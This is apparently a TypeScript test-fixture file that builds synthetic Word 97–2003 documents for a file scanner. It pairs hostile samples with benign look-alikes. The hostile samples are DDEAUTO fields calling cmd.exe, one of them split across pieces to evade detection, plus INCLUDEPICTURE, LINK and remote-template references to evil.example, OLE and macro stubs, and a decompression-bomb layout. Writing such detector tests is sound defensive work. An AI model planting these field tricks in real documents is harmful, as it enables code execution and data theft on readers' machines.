import * as make from '../make-test-documents.ts';
import type { SampleRow } from './document-sample.ts';

const MARKS = { begin: '\u0013', separate: '\u0014', end: '\u0015' };
const docField = (text: string) => `${MARKS.begin}${text}${MARKS.separate}x${MARKS.end}`;

/** The streams of a Word 97–2003 document, by name. */
export interface DocStreams extends Record<string, Buffer> {
  WordDocument: Buffer;
  '1Table': Buffer;
}

/** Streams of a document with text in pieces, alternately 8 and 16 bits wide and stored in reverse order. */
export function makeDocStreams(
  pieces: string[],
  templatePath = 'Normal.dot',
  /** All pieces are those bytes that hold the last one. */
  overlap = false,
): DocStreams {
  const head = Buffer.concat([
    make.wordHead(),
    Buffer.alloc((overlap ? (pieces.at(-1) ?? '') : pieces.join('')).length * 2 + 2_000),
  ]);
  const stored: number[] = [];
  let at = 2_048;
  for (const [i, text] of [...pieces.entries()].reverse()) {
    const isWide = i % 2 === 1;
    stored[i] = isWide ? at : (at * 2) | 0x40000000;
    at += head.write(text, at, isWide ? 'utf16le' : 'latin1');
  }
  const positions = [0];
  for (const text of pieces) positions.push((positions.at(-1) ?? 0) + text.length);
  const table = Buffer.alloc((pieces.length + 1) * 4 + pieces.length * 8);
  for (const [i, position] of positions.entries()) table.writeUInt32LE(position, i * 4);
  if (overlap) stored.fill(stored.at(-1) ?? 0);
  for (const [i, position] of stored.entries()) table.writeUInt32LE(position, (pieces.length + 1) * 4 + i * 8 + 2);
  const clx = Buffer.concat([Buffer.from([1, 2, 0, 0, 0, 2, 0, 0, 0, 0]), table]);
  clx.writeUInt32LE(table.length, 6);
  const strings = ['', templatePath].map((text) => {
    const length = Buffer.alloc(2);
    length.writeUInt16LE(text.length);
    return Buffer.concat([length, Buffer.from(text, 'utf16le')]);
  });
  const associated = Buffer.concat([Buffer.from('ffff02000000', 'hex'), ...strings]);
  const tables = Buffer.concat([Buffer.alloc(16), clx, associated, Buffer.alloc(4_096)]);
  for (const [offset, value] of [
    [0x1a2, 16],
    [0x1a6, clx.length],
    [0x19a, 16 + clx.length],
    [0x19e, associated.length],
  ] as const)
    head.writeUInt32LE(value, offset);
  return { WordDocument: head, '1Table': tables };
}

/** A Word 97–2003 document with text in pieces, and additional streams. */
export const makeDocOfText = (
  pieces: string[],
  templatePath?: string,
  more: Record<string, Buffer> = {},
  overlap = false,
): Buffer => make.makeCompoundFile({ ...makeDocStreams(pieces, templatePath, overlap), ...more });

/** Changes four bytes of a document behind others that it contains once. */
function patch(file: Buffer, after: Buffer, offset: number, value: number): Buffer {
  const copy = Buffer.from(file);
  copy.writeUInt32LE(value, copy.indexOf(after) + offset);
  return copy;
}
/** The place of the last of three pieces is beyond the end of the stream. */
const withLostPiece = (file: Buffer): Buffer => {
  const clx = Buffer.from('0102000000', 'hex');
  return patch(file, clx, 10 + 4 * 4 + 2 * 8 + 2, 0x3fffff);
};
/** The piece table is said to be larger than its stream. */
const withLostTable = (file: Buffer): Buffer => {
  const copy = Buffer.from(file);
  const head = copy.indexOf(Buffer.from([0xec, 0xa5, 0xc1, 0]));
  copy.writeUInt32LE(0xffffff, head + 0x1a6);
  return copy;
};

const rawDoc = (text: Buffer) => {
  const head = make.wordHead();
  text.copy(head, 1_000);
  return make.makeCompoundFile({ WordDocument: head, '1Table': Buffer.alloc(4_096) });
};

/** Word 97–2003 documents (.doc) with fields, templates and macros that act, and genuine ones that resemble them. */
export const hostileWord97Documents: SampleRow[] = [
  ['DDEAUTO', () => makeDocOfText([docField(' DDEAUTO c:\\\\cmd.exe ')]), 'active'],
  [
    'DDEAUTO split over pieces',
    () => makeDocOfText(['Resume \u0013 D', 'd', 'Eau', 'to c:\\\\cmd.exe \u0014x\u0015']),
    'active',
  ],
  ['DDE in a nested field', () => makeDocOfText(['\u0013IF 1 = 1 ', docField('DDE x y'), '\u0015']), 'active'],
  ['DDEAUTO without a piece table', () => rawDoc(Buffer.from('\u0013 DDEAUTO x\u0015', 'latin1')), 'active'],
  ['DDEAUTO without a piece table, 16 bits', () => rawDoc(Buffer.from('\u0013 DDEAUTO x\u0015', 'utf16le')), 'active'],
  ['INCLUDEPICTURE', () => makeDocOfText([docField('INCLUDEPICTURE "http://evil.example/a.png"')]), 'active'],
  ['LINK', () => makeDocOfText([docField('LINK Word.Document.8 "\\\\\\\\evil.example\\\\a.doc"')]), 'active'],
  ['template from the web', () => makeDocOfText(['Resume'], 'http://evil.example/t.dot'), 'active'],
  ['template from a share', () => makeDocOfText(['Resume'], '\\\\evil.example\\s\\t.dot'), 'active'],
  [
    'OLE object',
    () => makeDocOfText(['Resume'], undefined, { 'ObjectPool/_1234/\u0001Ole': Buffer.alloc(20) }),
    'active',
  ],
  [
    'a second WordDocument in a storage',
    () => makeDocOfText(['Resume'], undefined, { 'A/WordDocument': make.wordHead() }),
    'broken',
  ],
  [
    'a WordDocument in a storage only',
    () => make.makeCompoundFile({ 'A/WordDocument': make.wordHead(), '1Table': Buffer.alloc(4_096) }),
    'wrong type',
  ],
  [
    'a second table in another case',
    () => makeDocOfText(['Resume'], undefined, { 'A/1TABLE': Buffer.alloc(20) }),
    'broken',
  ],
  [
    'a piece outside the stream',
    () => withLostPiece(makeDocOfText(['\u0013 INCLUDE', 'PICTURE "http://evil.example/a.png" \u0015', 'x'])),
    'broken',
  ],
  ['a piece table outside its stream', () => withLostTable(makeDocOfText([docField('DDEAUTO x')])), 'broken'],
  [
    'pieces that overlap',
    () =>
      makeDocOfText(
        Array.from({ length: 21 }, () => 'x'.repeat(4_000)),
        undefined,
        {},
        true,
      ),
    'bomb',
  ],
  ['PRINT', () => makeDocOfText([docField('PRINT 27"&l1O"')]), 'active'],
  ['macros', () => makeDocOfText(['Resume'], undefined, { 'Macros/VBA/dir': Buffer.alloc(20) }), 'macros'],
  [
    'ordinary fields',
    () => makeDocOfText(['Resume ', docField('PAGE'), docField('HYPERLINK "https://example.com"'), ' DDEAUTO x']),
    'doc',
  ],
  ['template of its machine', () => makeDocOfText(['Resume'], 'C:\\Templates\\Resume.dot'), 'doc'],
];
